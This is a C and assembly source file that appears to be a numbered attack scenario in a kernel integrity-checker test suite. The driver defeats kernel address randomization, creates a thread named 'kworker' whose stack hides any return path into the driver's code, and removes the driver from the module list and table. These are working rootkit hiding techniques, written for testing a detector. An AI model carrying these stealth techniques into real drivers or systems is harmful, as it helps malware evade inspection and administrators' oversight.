/* attack_a117_memory_continuation (A117): a hidden thread with no stack trace.
 * A hidden driver's kernel thread that keeps the way back into its code
 * in no word of its stack: the continuation is the thread object's
 * routine, which the kernel's thread entry calls through (`mov current,
 * %rax; mov arg(%rax), %rdi; call *fn(%rax)`). thread_create,
 * thread_sleep_ns and thread_entry are not exported: the scenario writes
 * their addresses from the built image into the driver, with printk's,
 * from which it takes the kernel's random base; the driver finds that
 * call site in thread_entry by its bytes. Each round the thread counts
 * (printing every 20 rounds), drops thread_entry's return address, pushes
 * the call site instead and jumps into thread_sleep_ns: asleep, its stack
 * holds kernel addresses only, and when the sleep returns, the call site
 * calls the routine again. The driver then removes its module record from
 * the module list and the module table (as attack_a45) and cancels its
 * timer. Expected (before the fix): no bug check, the thread counts on. */
#include "attack.h"

struct process;
typedef struct thread *(*thread_create_fn)(struct process *p, const char *name, void (*fn)(void *), void *arg);

/* Set by the scenario from the built image's symbols. */
volatile uint64_t printk_at, thread_create_at, thread_sleep_at, thread_entry_at;

static struct ktimer wait_timer;
static struct dpc wait_dpc;
static struct module *self;
static volatile uint64_t rounds;
uint64_t attack_a117_sleep, attack_a117_site;

void attack_a117_round(void);
void attack_a117_work(void);

void attack_a117_work(void)
{
	if (++rounds % 20 == 0)
		printk("~ attack_a117: hidden thread, round %lu\n", rounds);
}

/* Entered by thread_entry's call through the thread's routine. */
__asm__(".text\n.global attack_a117_round\nattack_a117_round:\n"
	"\tcall attack_a117_work\n"
	"\tpop %rax\n"                        /* thread_entry's return address */
	"\tpushq attack_a117_site(%rip)\n"    /* returns into the call through the routine */
	"\tmov $10000000, %edi\n"
	"\tjmp *attack_a117_sleep(%rip)\n");

/* In thread_entry: mov rel32(%rip), %rax; mov disp8(%rax), %rdi; call *disp8(%rax). */
static uint64_t call_site(const uint8_t *p)
{
	for (int i = 0; i < 96; i++)
		if (p[i] == 0x48 && p[i + 1] == 0x8B && p[i + 2] == 0x05 && p[i + 7] == 0x48 && p[i + 8] == 0x8B &&
		    p[i + 9] == 0x78 && p[i + 11] == 0xFF && p[i + 12] == 0x50)
			return (uint64_t)(p + i);
	return 0;
}

static void attack(struct dpc *d, void *ctx)
{
	if (!printk_at || !thread_create_at || !thread_sleep_at || !thread_entry_at)
		return;
	uint64_t slide = (uint64_t)&printk - printk_at;
	thread_create_fn create = (thread_create_fn)(thread_create_at + slide);
	uint64_t entry = thread_entry_at + slide;
	attack_a117_sleep = thread_sleep_at + slide;
	thread_create_at = 0;
	timer_cancel(&wait_timer);
	if (!a_in_kernel_text((uint64_t)create) || !a_in_kernel_text(entry) || !(attack_a117_site = call_site((const uint8_t *)entry))) {
		printk("attack_a117: thread_entry's call through the routine not found\n");
		return;
	}
	uint64_t pf = a_cli(); /* no pass between the hiding and its report */
	if (!create(NULL, "kworker", (void (*)(void *))attack_a117_round, NULL)) {
		a_restore(pf);
		printk("attack_a117: thread_create failed\n");
		return;
	}
	a_hide_module(self, a_module_slot(self));
	printk("attack_a117: a kernel thread whose continuation is its routine only; the driver hidden from the module list and table\n");
	a_patched("attack_a117");
	a_restore(pf);
}

status_t driver_entry(struct driver_object *drv)
{
	self = a_module_of(drv);
	dpc_init(&wait_dpc, attack, NULL);
	timer_init(&wait_timer, &wait_dpc);
	timer_set(&wait_timer, 1000000ull, 1000000ull);
	printk("attack_a117: waiting for the kernel's addresses\n");
	return KPP_STATUS_SUCCESS;
}
